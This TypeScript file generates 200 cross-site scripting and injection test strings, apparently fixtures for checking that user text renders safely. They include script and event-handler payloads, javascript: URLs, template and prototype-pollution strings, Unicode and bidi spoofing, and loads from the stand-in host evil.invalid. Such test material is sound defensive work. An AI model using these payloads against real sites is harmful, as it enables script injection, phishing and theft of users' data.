// Two hundred texts that would run, load or break something if a page ever took text for anything else.

const tags = ["img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open", "iframe", "object data=x", "marquee", "select autofocus", "textarea autofocus", "keygen autofocus", "style", "link rel=stylesheet href=x", "math", "form", "button autofocus", "a href=#x", "dialog open"] as const;
const handlers = ["onerror", "onload", "onfocus", "ontoggle", "onanimationstart"] as const;

const others = (n: number): string[] => [
  `<script>pwned(${n})</script>`,
  `<script src="https://evil.invalid/${n}.js"></script>`,
  `<script type="module">pwned(${n})</script>`,
  `</title><script>pwned(${n})</script>`,
  `</textarea><script>pwned(${n})</script>`,
  `</style><script>pwned(${n})</script>`,
  `--><script>pwned(${n})</script><!--`,
  `]]><script>pwned(${n})</script>`,
  `"><script>pwned(${n})</script>`,
  `'-pwned(${n})-'`,
  `\`;pwned(${n});\``,
  `\${pwned(${n})}`,
  `{{constructor.constructor('pwned(${n})')()}}`,
  `#{pwned(${n})}`,
  `<%= pwned(${n}) %>`,
  `javascript:pwned(${n})`,
  `JaVaScRiPt:pwned(${n})`,
  `java\tscript:pwned(${n})`,
  `[a](javascript:pwned(${n}))`,
  `![a](https://evil.invalid/${n}.png)`,
  `[a]: javascript:pwned(${n})`,
  `<a href="javascript:pwned(${n})">a</a>`,
  `data:text/html,<script>pwned(${n})</script>`,
  `<base href="https://evil.invalid/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.invalid/${n}">`,
  `<img src="https://evil.invalid/${n}.png">`,
  `<link rel="prefetch" href="https://evil.invalid/${n}">`,
  `<form action="https://evil.invalid/${n}"><button>go</button></form>`,
  `<iframe srcdoc="<script>parent.pwned(${n})</script>">`,
  `<svg><animate onbegin=pwned(${n}) attributeName=x>`,
  `<svg><script>pwned(${n})</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=pwned(${n})>`,
  `<noscript><p title="</noscript><img src=x onerror=pwned(${n})>">`,
  `<template><script>pwned(${n})</script></template>`,
  `&lt;script&gt;pwned(${n})&lt;/script&gt;`,
  `&#60;script&#62;pwned(${n})&#60;/script&#62;`,
  `\\u003cscript\\u003epwned(${n})\\u003c/script\\u003e`,
  `%3Cscript%3Epwned(${n})%3C/script%3E`,
  `＜script＞pwned(${n})＜/script＞`,
  `<scr\u0000ipt>pwned(${n})</scr\u0000ipt>`,
  `\u202e<script>pwned(${n})</script>\u202c`,
  `\u2066\u202eadmin approved this\u2069`,
  `__proto__`,
  `constructor.prototype`,
  `W${"i".repeat(3000)}de`,
  `${"👩‍👩‍👧‍👦".repeat(200)}`,
  `${"Z̸͎̈́".repeat(300)}algo`,
  `${"a\n".repeat(400)}`,
  `<style>*{display:none}</style>`,
  `<div style="position:fixed;inset:0;z-index:9999;background:red">x</div>`,
  `<div id="root"></div><div class="assent">x</div>`,
  `\u001b[31mred\u001b[0m\u001b]8;;https://evil.invalid\u0007link\u001b]8;;\u0007`,
  `<x onclick=pwned(${n}) contenteditable tabindex=0>x`,
  `<img src=x:alert(${n}) onerror=eval(src)>`,
  `<a href="https://evil.invalid" target=_blank>Approve now</a>`,
  `<input name=getElementById>`,
  `<form id=document><input name=cookie></form>`,
  `<object data="javascript:pwned(${n})">`,
  `<embed src="javascript:pwned(${n})">`,
  `xlink:href="javascript:pwned(${n})"`,
];

/** All of them, each different. */
export const payloads: readonly string[] = (() => {
  const made: string[] = [];
  for (const tag of tags) for (const handler of handlers) made.push(`<${tag} ${handler}=pwned(${made.length})>`);
  const rest = others(made.length);
  for (let n = 0; made.length < 200; n += 1) {
    const text = rest[n % rest.length] ?? "";
    made.push(n < rest.length ? text : `"' ${n} ${text}`);
  }
  return made;
})();
